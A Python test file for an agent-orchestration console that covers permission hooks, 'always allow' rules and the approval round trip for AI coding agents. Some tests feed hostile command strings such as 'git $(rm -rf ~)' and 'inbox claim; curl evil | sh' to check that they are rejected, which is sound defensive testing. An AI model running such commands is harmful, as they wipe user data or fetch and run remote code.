"""Unit and CLI tests for hooks and approvals (issue 12 items 5 and 6): the fusion rules, the
"always allow" rule, approvals in the store, and the `inbox hook` / `orch approve` round trip
through real subprocesses (no agent: the hook's JSON is what the agents send, written here)."""

from __future__ import annotations

import json
import subprocess
import time
from pathlib import Path

import pytest

from orch_console.store.validate import now_ts

from orch_console.console.runtime import hooks
from orch_console.store import approvals, hook_events
from tests.conftest import INBOX, Cli, git_env


# -- fusion -------------------------------------------------------------------------------------
def test_a_fresh_hook_wins_over_the_screen():
    f = hooks.fuse(now=100, hook_state="waiting_input", hook_at=99.9, screen_state="working", screen_changed_at=99.5,
                   approval_pending=True)
    assert (f.state, f.source) == ("waiting_input", "hook")


def test_the_screen_decides_when_hooks_are_stale():
    # the last hook said working 60 s ago; the screen changed since and shows a question
    f = hooks.fuse(now=100, hook_state="working", hook_at=40, screen_state="waiting_input", screen_changed_at=90,
                   screen_line="Do you want to proceed?")
    assert (f.state, f.source, f.line) == ("waiting_input", "screen", "Do you want to proceed?")


def test_a_hook_newer_than_the_last_screen_change_still_wins_when_old():
    f = hooks.fuse(now=100, hook_state="idle", hook_at=50, screen_state="working", screen_changed_at=45)
    assert (f.state, f.source) == ("idle", "hook")


def test_an_answered_permission_hook_goes_stale_and_the_screen_decides():
    f = hooks.fuse(now=100, hook_state="waiting_input", hook_at=50, screen_state="working", screen_changed_at=45,
                   approval_pending=False)
    assert (f.state, f.source) == ("working", "screen")


def test_a_permission_hook_counts_only_while_its_request_waits():
    kw = dict(hook_state="waiting_input", hook_at=99.9, screen_state="working", screen_changed_at=99)
    assert hooks.fuse(now=100, approval_pending=True, **kw).state == "waiting_input"
    # answered a moment ago (or answered by a rule): the screen decides at once, no second flag
    assert hooks.fuse(now=100, approval_pending=False, **kw) == hooks.Fused("working", "screen", "")
    # Claude's "needs your permission" notification has no request of ours behind it
    assert hooks.fuse(now=100, approval_pending=False, hook_event="Notification", **kw).state == "waiting_input"


def test_a_flip_away_from_working_is_debounced():
    kw = dict(hook_state="working", hook_at=10, screen_state="idle", screen_changed_at=50, prev_state="working")
    first = hooks.fuse(now=60, prev_since=0, **kw)
    assert (first.state, first.source) == ("working", "debounce")
    held = hooks.fuse(now=61, prev_since=60, **kw)
    assert held.state == "working"
    after = hooks.fuse(now=64, prev_since=60, **kw)
    assert (after.state, after.source) == ("idle", "screen")


def test_a_permission_hook_flips_away_from_working_at_once():
    f = hooks.fuse(now=60, hook_state="waiting_input", hook_at=59.95, screen_state="working", screen_changed_at=59,
                   approval_pending=True, prev_state="working", prev_since=0)
    assert (f.state, f.source) == ("waiting_input", "hook")


def test_a_stop_hook_says_idle_never_done():
    assert hook_events.hook_state("Stop", {}) == "idle"
    f = hooks.fuse(now=10, hook_state="idle", hook_at=9, screen_state="working", screen_changed_at=1)
    assert f.state == "idle"
    assert "done" not in {hook_events.hook_state(e, {}) for e in hook_events.STATES}


def test_notification_hooks_are_read_by_their_type():
    assert hook_events.hook_state("Notification", {"notification_type": "permission_prompt"}) == "waiting_input"
    assert hook_events.hook_state("Notification", {"notification_type": "idle_prompt"}) == "idle"
    assert hook_events.hook_state("Notification", {"notification_type": "auth_success"}) == ""


# -- the "always allow" rule --------------------------------------------------------------------
@pytest.mark.parametrize("tool,subject,pattern", [
    ("Bash", "git status", "git"), ("Bash", "FOO=1 make test", "make"), ("Edit", "/w/a.py", "")])
def test_rule_for(tool, subject, pattern):
    assert approvals.rule_for(tool, subject) == (tool, pattern)


def test_a_rule_matches_simple_commands_of_the_same_program_only():
    assert approvals.rule_matches("Bash", "git", "Bash", "git log -1")
    assert approvals.rule_matches("Bash", "echo", "Bash", "echo hi > proof.txt")  # a redirect is fine
    assert not approvals.rule_matches("Bash", "git", "Bash", "gitk")
    assert not approvals.rule_matches("Bash", "git", "Bash", "git status; rm -rf ~")
    assert not approvals.rule_matches("Bash", "git", "Bash", "git log | sh")
    assert not approvals.rule_matches("Bash", "git", "Bash", "git $(rm -rf ~)")
    assert not approvals.rule_matches("Bash", "git", "Edit", "git")
    assert approvals.rule_matches("Edit", "", "edit", "/any/file")


def test_the_workers_own_inbox_commands_never_wait():
    assert approvals.is_own_inbox_command("Bash", "/venv/bin/inbox --db x claim --thread t")
    assert not approvals.is_own_inbox_command("Bash", "/venv/bin/inbox claim; curl evil | sh")
    assert not approvals.is_own_inbox_command("Edit", "inbox")


# -- the store ----------------------------------------------------------------------------------
@pytest.fixture
def attempt(cli: Cli) -> dict:
    cli.ok("orch", "run", "init", "--run", "r1", "--goal", "g")
    for t in ("t1", "t2"):
        cli.ok("orch", "task", "add", "--run", "r1", "--task", t, "--title", f"task {t}")
    a = cli.ok("orch", "dispatch", "--run", "r1", "--task", "t1", "--execution-mode", "analysis", "--to", "w1")
    b = cli.ok("orch", "dispatch", "--run", "r1", "--task", "t2", "--execution-mode", "analysis", "--to", "w2")
    return {"t1": a["attempt"]["thread_id"], "t2": b["attempt"]["thread_id"]}


def events(store, *types):
    marks = ",".join("?" * len(types))
    return [dict(r) for r in store.all(f"SELECT * FROM events WHERE event_type IN ({marks}) ORDER BY event_id", types)]


def test_always_allow_answers_the_next_request_by_itself(store, attempt):
    first = approvals.request(store, thread_id=attempt["t1"], tool="Bash", subject="make test", source="claude")
    assert first["status"] == "pending" and [o["decision"] for o in first["options"]] == ["allow", "always", "deny"]
    # another worker asks for the same program while the first waits: the rule answers it too
    other = approvals.request(store, thread_id=attempt["t2"], tool="Bash", subject="make lint", source="codex")
    out = approvals.decide(store, run_id="r1", task_id="t1", decision="always", by="leader")
    assert out["approval"]["decision"] == "always" and out["rule"]["pattern"] == "make"
    assert out["also_allowed"] == [other["approval_id"]]
    nxt = approvals.request(store, thread_id=attempt["t1"], tool="Bash", subject="make build", source="claude")
    assert (nxt["status"], nxt["decision"], nxt["decided_by"]) == ("decided", "allow", "rule")
    # a compound command is not covered by the rule
    assert approvals.request(store, thread_id=attempt["t1"], tool="Bash", subject="make; curl x | sh")["status"] \
        == "pending"
    kinds = [e["event_type"] for e in events(store, "approval_requested", "approval_decided", "approval_rule_added")]
    assert kinds.count("approval_rule_added") == 1 and kinds.count("approval_decided") == 3


def test_deny_with_a_reason_and_answering_twice(store, attempt):
    approvals.request(store, thread_id=attempt["t1"], tool="Bash", subject="rm -rf build", source="codex")
    out = approvals.decide(store, run_id="r1", task_id="t1", decision="deny", reason="keep build/")
    assert (out["approval"]["decision"], out["approval"]["reason"]) == ("deny", "keep build/")
    from orch_console.store.errors import InvalidInput, InvalidState, NotFound

    with pytest.raises(NotFound):
        approvals.decide(store, run_id="r1", task_id="t1", decision="allow")
    with pytest.raises(InvalidState):
        approvals.decide(store, run_id="r1", task_id="t1", decision="allow",
                         approval_id=out["approval"]["approval_id"])
    with pytest.raises(InvalidInput):
        approvals.decide(store, run_id="r1", task_id="t1", decision="maybe")


def test_pending_approvals_for_the_attention_queue(store, attempt):
    approvals.request(store, thread_id=attempt["t2"], tool="Edit", subject="/w/a.py", source="claude")
    with store.snapshot() as conn:
        items = approvals.pending_approvals(conn, "r1")
    assert len(items) == 1
    it = items[0]
    assert (it["task_id"], it["title"], it["tool"], it["subject"], it["kind"]) == ("t2", "task t2", "Edit", "/w/a.py",
                                                                                    "approval")
    assert it["options"] and it["waited_seconds"] >= 0
    with store.snapshot() as conn:
        (q,) = approvals.attention_items(conn, "r1")
    assert (q["kind"], q["task_id"], q["approval_id"], q["text"]) == ("approval", "t2", it["approval_id"],
                                                                      "permission: Edit /w/a.py")


def test_hook_events_record_and_latest(store, attempt):
    hook_events.record(store, thread_id=attempt["t1"], event="UserPromptSubmit", payload={}, source="claude")
    hook_events.record(store, thread_id=attempt["t1"], event="PreToolUse", source="claude",
                       payload={"tool_name": "Bash", "tool_input": {"command": "ls"}})
    hook_events.record(store, thread_id=attempt["t1"], event="Stop", payload={}, source="claude")
    last = hook_events.latest(store, attempt["t1"])
    assert (last.state, last.event) == ("idle", "Stop")
    assert hook_events.latest_many(store, [attempt["t1"], attempt["t2"]])[attempt["t1"]].state == "idle"
    # one event per change of state (working, idle) plus the Stop itself, not one per tool call
    evs = events(store, "attempt_hook")
    assert [json.loads(e["payload_json"])["state"] for e in evs] == ["working", "idle"]


# -- the CLI round trip -------------------------------------------------------------------------
def hook(cli: Cli, thread: str, event: str, payload: dict, source: str = "claude", wait: float = 30):
    return subprocess.Popen([INBOX, "--db", cli.db, "hook", "--thread", thread, "--agent", "w1", "--source", source,
                             "--event", event, "--wait-seconds", str(wait)], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=git_env(), cwd=cli.cwd)


def test_inbox_hook_waits_for_orch_approve_and_prints_the_decision(cli: Cli, attempt):
    p = hook(cli, attempt["t1"], "PermissionRequest",
             {"hook_event_name": "PermissionRequest", "tool_name": "Bash", "tool_input": {"command": "make test"}})
    p.stdin.write(json.dumps({"hook_event_name": "PermissionRequest", "tool_name": "Bash",
                              "tool_input": {"command": "make test"}}))
    p.stdin.close()
    deadline = time.monotonic() + 20
    while not cli.ok("orch", "approvals", "--run", "r1")["approvals"]:
        assert time.monotonic() < deadline and p.poll() is None, p.stderr.read() if p.poll() is not None else ""
        time.sleep(0.1)
    pending = cli.ok("orch", "approvals", "--run", "r1")["approvals"][0]
    assert (pending["task_id"], pending["tool"], pending["subject"]) == ("t1", "Bash", "make test")
    out = cli.ok("orch", "approve", "--run", "r1", "--task", "t1", "--decision", "deny", "--reason", "not now")
    assert out["delivered"] == "hook"
    p.wait(timeout=20)
    stdout, stderr = p.stdout.read(), p.stderr.read()
    assert p.returncode == 0, stderr
    assert json.loads(stdout) == {"hookSpecificOutput": {"hookEventName": "PermissionRequest", "decision": {
        "behavior": "deny", "message": "not now"}}}


def test_inbox_hook_never_blocks_on_other_events_or_bad_input(cli: Cli, attempt):
    p = subprocess.run([INBOX, "--db", cli.db, "hook", "--thread", attempt["t1"], "--source", "codex",
                        "--event", "PreToolUse"], input="{not json", capture_output=True, text=True, env=git_env(),
                       timeout=30)
    assert p.returncode == 0 and p.stdout == ""
    p = subprocess.run([INBOX, "--db", cli.db, "hook", "--thread", "thr_nope", "--event", "Stop"], input="{}",
                       capture_output=True, text=True, env=git_env(), timeout=30)
    assert p.returncode == 0 and p.stdout == "" and "no attempt" in p.stderr


def test_a_hook_that_gets_no_answer_gives_up_and_says_nothing(cli: Cli, attempt):
    p = hook(cli, attempt["t1"], "PermissionRequest", {}, wait=0.5)
    stdout, _ = p.communicate(json.dumps({"tool_name": "Bash", "tool_input": {"command": "make"}}), timeout=30)
    assert p.returncode == 0 and stdout == ""
    assert cli.ok("orch", "approvals", "--run", "r1", "--status", "expired")["approvals"]


def test_orch_approve_errors(cli: Cli, attempt):
    cli.err("orch", "approve", "--run", "r1", "--task", "t1", "--decision", "allow", code="not_found", exit_code=40)
    cli.err("orch", "approve", "--run", "r1", "--task", "nope", "--decision", "allow", code="not_found", exit_code=40)
    cli.err("orch", "approve", "--run", "r1", "--task", "t1", "--decision", "perhaps", code="invalid_input",
            exit_code=30)
    cli.err("orch", "approve", "--run", "r1", "--task", "bad id!", "--decision", "allow", code="invalid_input",
            exit_code=30)


# -- install ------------------------------------------------------------------------------------
def test_claude_hooks_go_into_settings_local_json_and_out_of_commits(tmp_path: Path):
    from tests.conftest import make_repo

    repo = make_repo(tmp_path / "repo")
    wt = tmp_path / "wt"
    subprocess.run(["git", "-C", str(repo), "worktree", "add", "-q", str(wt), "-b", "w"], check=True, env=git_env())
    (wt / ".claude").mkdir()
    (wt / ".claude" / "settings.local.json").write_text(json.dumps({"permissions": {"allow": ["Bash(ls:*)"]},
                                                                    "hooks": {"Stop": [{"hooks": [{"type": "command",
                                                                              "command": "my-own"}]}]}}))
    for _ in range(2):  # a relaunch replaces orch's entries, never duplicates them
        cmd, notes = hooks.prepare('claude "$(cat b)"', cwd=wt, db="/d.db", thread_id="thr_1", agent="a",
                                   inbox="/v/inbox")
    doc = json.loads((wt / ".claude" / "settings.local.json").read_text())
    assert doc["permissions"] == {"allow": ["Bash(ls:*)"]}
    stop = [h["command"] for g in doc["hooks"]["Stop"] for h in g["hooks"]]
    assert stop[0] == "my-own" and len(stop) == 2 and "--event Stop" in stop[1]
    assert doc["hooks"]["PermissionRequest"][0]["hooks"][0]["timeout"] >= 600
    status = subprocess.run(["git", "-C", str(wt), "status", "--porcelain"], capture_output=True, text=True).stdout
    assert ".claude" not in status


def test_codex_hooks_on_the_command_line_are_trusted_by_their_hash():
    cmd, _ = hooks.prepare("export PATH=/x; codex --no-daemon --yolo \"$(cat b)\"", cwd=Path("/tmp"), db="/d.db",
                           thread_id="thr_1", agent="a", inbox="/v/inbox")
    import shlex

    words = shlex.split(cmd.split(";", 1)[1])
    assert words[0] == "codex" and words[-1] == "$(cat b)"
    state = [w for w in words if w.startswith("hooks.state=")][0]
    h = hooks.codex_hook_hash("PermissionRequest", hooks.hook_command("/v/inbox", "/d.db", "thr_1", "a", "codex",
                                                                      "PermissionRequest"))
    assert '"/<session-flags>/config.toml:permission_request:0:0"={trusted_hash="' + h + '"}' in state
    # the identity Codex hashes (a known value: the hash format must not drift silently)
    assert hooks.codex_hook_hash("PreToolUse", "/tmp/hx/hook.sh pre") == \
        "sha256:73a105f3ba2184d6a8e9735fe6aa9a81e37eba8b04f602b4fa52a1781a18fb5f"


def test_the_watcher_sees_a_pending_permission_from_the_hook_at_once(store, attempt):
    a = {"thread_id": attempt["t1"]}
    memo: dict = {}
    # no hook ever: the screen alone, unchanged
    assert hooks.fuse_for_attempt(store, memo, a, now=time.time(), pane_state="active", pane_line="",
                                  output_changed_at=time.time()) == ("active", "")
    hook_events.record(store, thread_id=attempt["t1"], event="PreToolUse", source="codex",
                       payload={"tool_name": "Bash", "tool_input": {"command": "make"}})
    hook_events.record(store, thread_id=attempt["t1"], event="PermissionRequest", source="codex",
                       payload={"tool_name": "Bash", "tool_input": {"command": "make"}})
    approvals.request(store, thread_id=attempt["t1"], tool="Bash", subject="make", source="codex")
    state, line = hooks.fuse_for_attempt(store, memo, a, now=time.time(), pane_state="active", pane_line="",
                                         output_changed_at=time.time())
    assert state == "waiting_input" and "make" in line
    # answered: the hook goes stale after its window and the screen decides again (debounced from working)
    approvals.decide(store, run_id="r1", task_id="t1", decision="allow")
    later = time.time() + 60
    assert hooks.fuse_for_attempt(store, memo, a, now=later, pane_state="active", pane_line="",
                                  output_changed_at=later - 1)[0] == "active"


def test_the_menu_still_up_just_after_its_request_was_decided_is_not_a_new_request(store, attempt):
    """Claude Code draws its own menu while its hook waits; after the leader decides, the menu stays
    until the hook hands the answer back. That screen is the answered request, not a new one (it
    would use up the next request's flag); a menu after the window is a new one."""
    a = {"thread_id": attempt["t1"]}
    hook_events.record(store, thread_id=attempt["t1"], event="PermissionRequest", source="claude",
                       payload={"tool_name": "Bash", "tool_input": {"command": "make"}})
    approvals.request(store, thread_id=attempt["t1"], tool="Bash", subject="make", source="claude")
    approvals.decide(store, run_id="r1", task_id="t1", decision="allow")
    menu = "permission: Do you want to proceed? [1. Yes | 2. Yes, and always allow | 3. No]"
    now = time.time()
    assert hooks.fuse_for_attempt(store, {}, a, now=now, pane_state="waiting_input", pane_line=menu,
                                  output_changed_at=now) == ("active", "")
    store.write(lambda c: c.execute("UPDATE approvals SET decided_at=? WHERE thread_id=?",
                                    (now_ts(now - 10), attempt["t1"])))
    assert hooks.fuse_for_attempt(store, {}, a, now=now, pane_state="waiting_input", pane_line=menu,
                                  output_changed_at=now)[0] == "waiting_input"


# -- the console's blocked pane -----------------------------------------------------------------
def test_the_console_lists_a_permission_request_and_answers_it_in_place(cli: Cli, attempt):
    from orch_console.console.tui import ops
    from orch_console.console.tui.reader import ConsoleData
    from orch_console.store import Store
    from orch_console.store.board import TaskFilter

    with Store(cli.db) as store:
        ap = approvals.request(store, thread_id=attempt["t2"], tool="Bash", subject="rm -rf build", source="codex")
    data = ConsoleData(cli.db)
    _, _, blocked, _ = data.open("r1", TaskFilter(), limit=50)
    item = [b for b in blocked if b.get("kind") == "approval"]
    assert len(item) == 1 and item[0]["task_id"] == "t2" and item[0]["approval_id"] == ap["approval_id"]
    assert "rm -rf build" in item[0]["text"] and item[0]["subject"] == "rm -rf build"
    assert "deny" in {o["decision"] for o in item[0]["options"]}
    with pytest.raises(Exception, match="allow \\| always \\| deny"):
        ops.answer(cli.db, "r1", "t2", "perhaps later")
    assert ops.answer(cli.db, "r1", "t2", "deny: keep build/") == "t2: deny sent to the agent (hook)"
    with Store(cli.db) as store:
        got = approvals.get(store, ap["approval_id"])
    assert (got["decision"], got["reason"]) == ("deny", "keep build/")


def test_a_request_of_an_attempt_that_ended_waits_on_nobody(store, attempt, cli: Cli):
    approvals.request(store, thread_id=attempt["t2"], tool="Bash", subject="make", source="codex")
    cli.ok("orch", "cancel", "--run", "r1", "--task", "t2")
    with store.snapshot() as conn:
        assert approvals.pending_approvals(conn, "r1") == []
    from orch_console.store.errors import NotFound

    with pytest.raises(NotFound):
        approvals.decide(store, run_id="r1", task_id="t2", decision="allow")
